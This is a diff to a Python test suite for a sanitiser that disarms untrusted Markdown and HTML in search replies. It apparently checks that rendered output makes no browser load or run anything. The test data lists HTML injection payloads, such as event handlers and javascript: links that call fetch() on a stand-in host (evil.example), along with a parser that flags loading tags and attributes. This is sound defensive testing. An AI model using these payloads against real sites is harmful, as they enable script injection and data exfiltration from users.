@@ -11,7 +11,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
-from rag.search.reply.untrusted import MAX_LABEL_CHARS, disarmed, label
+from rag.search.reply.untrusted import MAX_LABEL_CHARS, altered, disarmed, label
 
 RENDERERS = (MarkdownIt("commonmark"), MarkdownIt("commonmark", {"html": False}), MarkdownIt("js-default"))
 URL = "http://evil.example/?q=1"
@@ -39,10 +39,10 @@ FETCHING = [  # what a browser asks for, and what leads it elsewhere
     f"<table background='{URL}'>",
     f"<x-a onfocus=fetch('{URL}') autofocus tabindex=1>",
     f"<!-- --><img src={URL}>",
-    f"<![CDATA[<img src={URL}>]]>",
-    f"<?xml-stylesheet href='{URL}'?>",
-    f"<!DOCTYPE html SYSTEM '{URL}'>",
-    f"</p><img src={URL}",
+    f"<b title='>' onclick=fetch('{URL}')>",
+    "<a href='java\nscript:fetch(1)'>",
+    "<a href=javascript:fetch(1)>",
+    f"<link\nrel=stylesheet\nhref={URL}>",
 ]
 PIECES = [
     *("!", "[", "]", "(", ")", "<", ">", "\\", "`", "*", "a", " ", "\n", "\n\n", "\r", "\t", '"'),
@@ -55,42 +55,49 @@ PIECES = [
 PIECE_TEXTS = st.lists(st.sampled_from(PIECES), max_size=24).map("".join)
 
 
-WORDS = "p|a|h[1-6]|ul|ol|li|blockquote|pre|code|em|strong|hr|br|table|thead|tbody|tr|th|td|s"
-OTHER_TAGS = re.compile(rf"<(?!/?(?:{WORDS})[\s/>])")
+LOADING = {
+    "applet",
+    "audio",
+    "base",
+    "body",
+    "embed",
+    "form",
+    "frame",
+    "html",
+    "iframe",
+    "image",
+    "input",
+} | {
+    *("link", "meta", "object", "picture", "source", "track", "video"),
+}
+ATTRIBUTES = {"style", "src", "srcset", "background", "poster", "xlink:href", "action", "formaction"}
 
 
 class Tags(HTMLParser):
-    """The markup that a browser would see in a text."""
+    """The tags of a page that make a browser load or run something."""
 
-    def __init__(self, text: str) -> None:
+    def __init__(self, page: str) -> None:
         super().__init__()
         self.seen: list[str] = []
-        self.feed(text)
+        self.feed(page)
         self.close()
 
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:  # noqa: ARG002 its parent's
-        self.seen.append(tag)
-
-    def handle_endtag(self, tag: str) -> None:
-        self.seen.append(tag)
-
-    def handle_comment(self, data: str) -> None:
-        self.seen.append(data)
-
-    def handle_decl(self, decl: str) -> None:
-        self.seen.append(decl)
-
-    def handle_pi(self, data: str) -> None:
-        self.seen.append(data)
-
-    def unknown_decl(self, data: str) -> None:
-        self.seen.append(data)
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        named = any(name in ATTRIBUTES or name.startswith("on") for name, _ in attrs)
+        runs = any(
+            name == "href" and re.match("javascript:", re.sub(r"\s", "", value or ""))
+            for name, value in attrs
+        )
+        valued = any(value for _, value in attrs)
+        if named or runs or tag in {"script", "style", "svg", "img"} or (tag in LOADING and valued):
+            self.seen.append(tag)
 
 
 def _fetched(text: str) -> list[str]:
-    """The markup in a text as a browser has it, and renderers' pages that aren't just words and links."""
+    """What a browser loads or runs of a text, as renderers show it; without code, as HTML, too."""
     pages = [renderer.render(text) for renderer in RENDERERS]
-    return [*Tags(text).seen, *(page for page in pages if OTHER_TAGS.search(page))]
+    plain = [] if "`" in text or "~~~" in text else [text]
+    return [tag for page in (*pages, *plain) for tag in Tags(page).seen]
 
 
 def _references(text: str) -> dict[str, object]:
@@ -110,8 +117,11 @@ def _references(text: str) -> dict[str, object]:
         ('<img src="x.png" alt="a map">', '< img src="x.png" alt="a map">'),
         ("<IMG\nSRC=x.png />", "< IMG\nSRC=x.png />"),
         ("[![logo](x.png)](http://x)", "[! [logo](x.png)](http://x)"),
-        ("```\n![a](b)\n```", "```\n! [a](b)\n```"),
+        ("```\n![a](b)\n```", "```\n! [a](b)\n```"),  # it may continue a fence
+        ("a <!-- b --> c <![CDATA[d]]>", "a < !-- b --> c < ! [CDATA[d]]>"),
         ("<\u200biframe\ufe01 src=x>a\u202e</iframe>", "< iframe src=x>a< /iframe>"),
+        ("![a [b]](x) vec![1]", "! [a [b]](x) vec![1]"),
+        (f"[a]: b.html\n[r]: {URL}", f"[a]: b.html\n[r] : {URL}"),
         ("a\u2028b\u2029c\x85d\re", "a\nb\nc\nd\ne"),
     ],
 )
@@ -147,17 +157,39 @@ def test_what_fetches_nothing_stays_byte_for_byte(text: str) -> None:
 
 
 @pytest.mark.parametrize(
-    ("code", "expected"),
+    "code",
     [
-        ("#![feature(test)]\nlet v = vec![1];", "#! [feature(test)]\nlet v = vec! [1];"),
-        ("if (![1, 2].includes(x)) {}", "if (! [1, 2].includes(x)) {}"),
-        ("std::vector<std::pair<int,int>> v;", "std::vector< std::pair< int,int>> v;"),
-        ("cat <<EOF", "cat << EOF"),
-        ("if a<b:", "if a< b:"),
+        "fn f(x: Option<char>) -> Vec<Box<dyn Error>> { HashMap::<K, V>::new() }",
+        '#![feature(test)]\nlet v = vec![1, 2];\nlet w = vec!["a\\n"]; // [docs](https://docs.rs)',
+        "if (![1, 2].includes(x)) {}",
+        "std::vector<std::pair<int,int>> v; std::set<Object> s;",
+        "List<? extends T> a; Class<?> b; Map<String, List<Object>> c;",
+        "impl<T: Fn() -> U, Item = X> A<Item = X> for B<T> {}",
+        "cat <<EOF",
+        "if a<b:\n    once = 1",
+        "a <b> bold</b> word, <p id='x'>, <br/> and <a href=\"https://a.example\">a link</a>",
+        "In prose, `<img src=x>` and ``![a](b)`` are code.",
+        "```html\n<img src=x>\n<script>a()</script>\n<!-- b -->\n![a](b)\n```\n\nAfter.",
+        "- An item:\n  ```html\n  <img src=x>\n  ```",
     ],
 )
-def test_code_means_the_same_with_its_blanks(code: str, expected: str) -> None:
-    assert disarmed(code) == expected
+def test_code_stays_byte_for_byte(code: str) -> None:
+    assert disarmed(code) == code
+    assert not _fetched(code)
+
+
+def test_a_plain_fence_stays_where_the_text_is_known_to_begin_outside_of_code() -> None:
+    text = "Before.\n\n```\n<img src=x>\n```\n"
+    assert disarmed(text, from_prose=True) == text
+    assert disarmed(text) == text.replace("<", "< ")  # the first fence may end another one
+
+
+def test_a_note_says_what_was_altered_and_only_if_something_was() -> None:
+    assert altered([("a", "a"), ("Option<char>", disarmed("Option<char>"))]) == []
+    texts = ["<img src=x> ![a](b)", "pass\u200bword\u2028"]
+    (note,) = altered((text, disarmed(text)) for text in texts)
+    for part in ("2 spaces", "1 hidden character removed", "1 other line end"):
+        assert part in note
 
 
 @pytest.mark.parametrize(
@@ -219,6 +251,14 @@ def test_an_image_in_disguise_is_none_any_more(text: str) -> None:
         "<!--\n```\n-->\n{}\n```\n",
         "<div>\n```\n\n```\n{}\n```",
         "1. item\n\n   ```\n{}\n   ```\n",
+        "    ```\n{}\n    ```\n",
+        "```\n{}",
+        "code\n```\n\n{}\n\n```\ncode",
+        "```\na … b\n```\n{}\n```",
+        "`a\n\n{}`",
+        "a \\`{}` b",
+        "<b title='`'>{}<i title='`'>",
+        "| a | b |\n|---|---|\n| `{} | b` |",
         "> ```\n{}\n```\n\n",
         "<img src=x\n```\n{}\n```\n",
         "<!--\n![a](\n-->\n)\n```\n{}\n```\n",
